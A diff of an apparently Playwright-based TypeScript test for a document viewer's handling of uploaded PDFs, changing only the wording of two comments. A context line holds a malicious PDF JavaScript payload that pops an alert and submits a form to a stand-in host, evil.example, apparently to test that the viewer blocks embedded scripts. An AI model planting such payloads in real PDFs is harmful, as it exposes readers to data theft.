@@ -7,7 +7,7 @@ import { as, call, ownerOf } from "./requests/staff.ts";
 const BEFORE = "not tried";
 /** Until the page shows the file, or says that it cannot. */
 const SHOWN_MAX_MS = 20_000;
-/** How long the reviewer's page may not hear a key. */
+/** The longest time for which the reviewer's page may not hear a key. */
 const BLOCKED_MAX_MS = 500;
 const MB = 1024 * 1024;
 const script = "<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://evil.example/'\\)) >>";
@@ -142,7 +142,7 @@ async function look(context: Awaited<ReturnType<typeof newProfile>>, url: string
   const ms = Math.round(performance.now() - began);
   const drawn = page.getByRole("img", { name: /página 1 de/ });
   if ((await drawn.count()) > 0) await drawn.first().click({ position: { x: 20, y: 20 } });
-  // What is still being drawn may block the page yet.
+  // The viewer may still be drawing, and block the page yet.
   await page.waitForTimeout(2_000);
   const { hit, longest } = await page.evaluate(() => ({
     hit: "hit" in window,
